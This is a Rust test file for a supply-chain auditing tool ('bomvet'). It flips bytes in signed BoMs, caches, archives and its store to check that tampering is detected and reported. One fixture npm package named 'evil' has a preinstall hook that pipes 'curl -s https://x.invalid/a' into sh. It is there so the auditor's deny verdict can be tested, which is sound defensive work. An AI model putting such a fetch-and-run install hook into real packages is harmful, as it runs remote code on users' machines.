//! One changed byte, anywhere: `verify` or the next audit says in which file and where.

use std::path::{Path, PathBuf};

use crate::project::{Packed, Project, crate_lib, npm_lib, outputs, package, text};
use crate::registry_errors::{json, online, user_npmrc};

const PURE: &str = "module.exports = (a, b) => a + b;\n";

fn flip(path: &Path, at: usize) {
    let mut bytes = std::fs::read(path).unwrap();
    bytes[at] ^= 1;
    std::fs::write(path, bytes).unwrap();
}

fn rules(package: &serde_json::Value) -> Vec<String> {
    package["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap().to_owned()).collect()
}

fn message<'a>(package: &'a serde_json::Value, rule: &str) -> &'a str {
    let list = package["findings"].as_array().unwrap();
    let found = list.iter().find(|finding| finding["rule"] == rule);
    found.unwrap_or_else(|| panic!("no {rule}: {package:#}"))["message"].as_str().unwrap()
}

/// A signed audit, and its verification.
fn signed() -> Project {
    let mut project = Project::new();
    project.npm(&[npm_lib("fine", "1.0.0", PURE)]);
    let made = project.bomvet().args(["key", "new"]).output().unwrap();
    assert!(made.status.success(), "{}", text(&made.stderr));
    let args: Vec<_> = project.audit_args().into_iter().filter(|arg| arg != "--unsigned").collect();
    assert_eq!(project.bomvet().args(args).output().unwrap().status.code(), Some(0));
    project
}

fn verify(project: &Project, more: &[&str]) -> (Option<i32>, String) {
    let run = project.bomvet().args(["verify", "../out/bom.cdx.json"]).args(more).output().unwrap();
    (run.status.code(), text(&run.stdout) + &text(&run.stderr))
}

/// Every 97th byte of both files, by the binary; `tests/attest` does so at random in the library.
#[test]
fn a_byte_of_the_bom_or_of_an_attestation() {
    let project = signed();
    assert_eq!(verify(&project, &[]).0, Some(0));
    for name in ["bom.cdx.json", "attestations.jsonl"] {
        let path = project.out().join(name);
        let good = std::fs::read(&path).unwrap();
        for at in (0..good.len()).step_by(good.len() / 25) {
            flip(&path, at);
            let (code, said) = verify(&project, &[]);
            assert!(matches!(code, Some(1 | 2)), "byte {at} of {name}: {said}");
            let place = format!("{name}:");
            assert!(
                said.contains(&place) || said.contains(&format!("{name}`: ")),
                "byte {at} of {name}: {said}"
            );
            std::fs::write(&path, &good).unwrap();
        }
    }
    // A verdict turned round in all its places: which component, and in which line.
    let path = project.out().join("bom.cdx.json");
    let good = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, good.replace("\"approve\"", "\"deny\"")).unwrap();
    let (code, said) = verify(&project, &[]);
    assert_eq!(code, Some(1));
    assert!(said.contains("changed after it was signed") && said.contains("pkg:npm/fine@1.0.0"), "{said}");
}

#[test]
fn an_archive_beside_the_bom() {
    let project = signed();
    let archive = project.root().join("fine-1.0.0.tgz");
    std::fs::write(&archive, npm_lib("fine", "1.0.0", PURE).archive("package")).unwrap();
    let (code, said) = verify(&project, &["--contents", "fine-1.0.0.tgz"]);
    assert_eq!(code, Some(0), "{said}");
    flip(&archive, 30);
    let (code, said) = verify(&project, &["--contents", "fine-1.0.0.tgz"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("`fine-1.0.0.tgz` has SHA-256") && said.contains("/hashes"), "{said}");
}

/// The package managers' caches: offline the package is denied, with both digests and the lockfile's line.
#[test]
fn an_archive_in_a_package_managers_cache() {
    let (js, rs) = (npm_lib("fine", "1.0.0", PURE), crate_lib("fine-crate", "1.0.0", "//! Nothing.\n"));
    let mut project = Project::new();
    project.npm(std::slice::from_ref(&js));
    project.cargo(std::slice::from_ref(&rs));
    for (path, name, cache, lockfile) in [
        (project.npm_cached(&js), "fine", "npm's cache", "package-lock.json"),
        (project.crate_cached(&rs), "fine-crate", "cargo's cache", "Cargo.lock"),
    ] {
        flip(&path, 40);
        let document = project.audit(&[]);
        let denied = package(&document, name);
        assert_eq!(denied["verdict"], "deny");
        let said = message(denied, "acquire/wrong-digest");
        assert!(said.contains(cache) && said.contains("the lockfile declares sha"), "{said}");
        let list = denied["findings"].as_array().unwrap();
        let span = &list.iter().find(|f| f["rule"] == "acquire/wrong-digest").unwrap()["spans"][0];
        assert_eq!(span["file"], lockfile);
        assert!(span["line"].as_u64().unwrap() > 1, "{span:#}");
        flip(&path, 40);
    }
    assert_eq!(project.audit(&[])["verdict"], "approve");
}

/// With a registry, the damaged copy is replaced, and said.
#[test]
fn a_damaged_cache_is_made_good_by_the_registry() {
    let js = npm_lib("fine", "1.0.0", PURE);
    let server = crate::serving(std::slice::from_ref(&js));
    let mut project = Project::new();
    project.npm(std::slice::from_ref(&js));
    user_npmrc(&project, &format!("registry={}\n", server.url()));
    flip(&project.npm_cached(&js), 40);
    let document = json(&project, &[]);
    assert_eq!(document["verdict"], "approve");
    assert!(message(package(&document, "fine"), "acquire/stale-cache").contains("npm's cache"));
}

fn entries(project: &Project, bucket: &str) -> Vec<PathBuf> {
    let folder = project.home().join(".cache/bomvet").join(bucket);
    let mut all: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    all.sort();
    all
}

#[test]
fn a_kept_archive_in_the_store() {
    let js = npm_lib("fine", "1.0.0", PURE);
    let server = crate::serving(std::slice::from_ref(&js));
    let project = Project::new();
    project.npm_lock(&[js], |_| None);
    user_npmrc(&project, &format!("registry={}\n", server.url()));
    assert_eq!(online(&project, &[]).status.code(), Some(0));
    let bom = project.out().join("bom.cdx.json");
    std::fs::copy(bom, project.root().join("../sound.cdx.json")).unwrap();
    let [blob] = &entries(&project, "blobs")[..] else { panic!("one archive") };
    let good = std::fs::read(blob).unwrap();
    let name = blob.file_name().unwrap().to_string_lossy().into_owned();
    for at in [0, 50, good.len() - 1] {
        flip(blob, at);
        let document = project.audit(&[]);
        let denied = package(&document, "fine");
        assert_eq!(denied["verdict"], "deny");
        let said = message(denied, "store/damaged");
        assert!(said.contains(&format!("`blobs/{name}` is damaged")) && said.contains("put aside"), "{said}");
        // `verify` compares what the store holds with the BoM of the sound run.
        std::fs::write(blob, &good).unwrap();
        flip(blob, at);
        let store = project.home().join(".cache/bomvet");
        let bom = project.root().join("../sound.cdx.json");
        let more = ["verify", "--allow-unsigned", "--store", store.to_str().unwrap(), bom.to_str().unwrap()];
        let run = project.bomvet().args(more).output().unwrap();
        let said = text(&run.stdout) + &text(&run.stderr);
        assert_eq!(run.status.code(), Some(1), "{said}");
        assert!(said.contains(&format!("`blobs/{name}` is damaged")), "{said}");
        // Online it is fetched again.
        std::fs::write(blob, &good).unwrap();
        flip(blob, at);
        let document = json(&project, &[]);
        assert_eq!(document["verdict"], "approve");
        assert!(rules(package(&document, "fine")).contains(&"store/damaged".to_owned()));
        assert!(std::fs::read(blob).unwrap() == good, "made again");
    }
    assert_eq!(rules(package(&project.audit(&[]), "fine")), ["licence/no-text"]);
}

/// Kept facts: whichever byte changed, even where the rest still decodes, they are not believed.
#[test]
fn kept_facts_in_the_store() {
    let evil = Packed::new(
        "evil",
        "1.0.0",
        &[(
            "package.json",
            "{\"name\": \"evil\", \"version\": \"1.0.0\", \"license\": \"MIT\", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}}",
        )],
    );
    let mut project = Project::new();
    project.npm(&[evil]);
    let sound = project.audit(&[]);
    let reasons = package(&sound, "evil")["reasons"].clone();
    assert_eq!(package(&sound, "evil")["verdict"], "deny");
    let before = outputs(&project.out());
    let facts = entries(&project, "facts");
    let size = |path: &PathBuf| std::fs::metadata(path).unwrap().len() as usize;
    let mut noticed = 0;
    for entry in &facts {
        let good = std::fs::read(entry).unwrap();
        for at in (0..size(entry)).step_by(size(entry) / 12) {
            flip(entry, at);
            let document = project.audit(&[]);
            let denied = package(&document, "evil");
            assert_eq!((&denied["verdict"], &denied["reasons"]), (&"deny".into(), &reasons), "byte {at}");
            let key = entry.file_name().unwrap().to_string_lossy();
            let all = document["packages"].to_string();
            assert!(all.contains(&format!("`facts/{key}` is damaged")), "byte {at} of {key}");
            assert!(std::fs::read(entry).unwrap() == good, "made again");
            std::fs::remove_file(entry.with_file_name(format!("{key}.damaged"))).unwrap();
            noticed += 1;
        }
    }
    assert!(noticed >= 24, "{noticed}");
    // One entry in the place of the other: each is sound by itself.
    let [one, two] = &facts[..] else { panic!("two packages") };
    std::fs::copy(one, two).unwrap();
    let document = project.audit(&[]);
    assert_eq!(package(&document, "evil")["reasons"], reasons);
    let key = |path: &PathBuf| path.file_name().unwrap().to_string_lossy().into_owned();
    let said = format!("`facts/{}` is damaged: it is that of {}", key(two), key(one));
    assert!(document["packages"].to_string().contains(&said), "{document:#}");
    project.audit(&[]);
    assert!(before == outputs(&project.out()), "the damage leaves nothing behind");
}

/// What cargo said, kept: asked again, and said. Needs a cargo that answers.
#[test]
fn a_kept_answer_of_cargo_in_the_store() {
    let project = Project::new();
    project.write(
        "Cargo.toml",
        "[package]\nname = \"app\"\nversion = \"1.0.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n",
    );
    project.write("Cargo.lock", "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"1.0.0\"\n");
    project.write("src/lib.rs", "//! Nothing.\n");
    let audit = || {
        let args: Vec<_> = project.audit_args().into_iter().filter(|arg| arg != "--lockfile-only").collect();
        let run =
            project.bomvet().args(args).args(["--format", "json"]).envs(crate::toolchain()).output().unwrap();
        serde_json::from_slice::<serde_json::Value>(&run.stdout)
            .unwrap_or_else(|_| panic!("{}", text(&run.stderr)))
    };
    let document = audit();
    if document["notes"].to_string().contains("unknown") {
        eprintln!("skipped: cargo does not answer here: {}", document["notes"]);
        return;
    }
    let [answer] = &entries(&project, "metadata")[..] else { panic!("one answer") };
    flip(answer, 3);
    let document = audit();
    let key = answer.file_name().unwrap().to_string_lossy();
    let own = package(&document, "app");
    assert!(message(own, "store/damaged").contains(&format!("`metadata/{key}` is damaged")), "{own:#}");
    assert_eq!(own["verdict"], "approve");
    assert!(answer.exists(), "asked again and kept");
    assert_eq!(
        rules(package(&audit(), "app")),
        rules(own).into_iter().filter(|rule| rule != "store/damaged").collect::<Vec<_>>()
    );
}
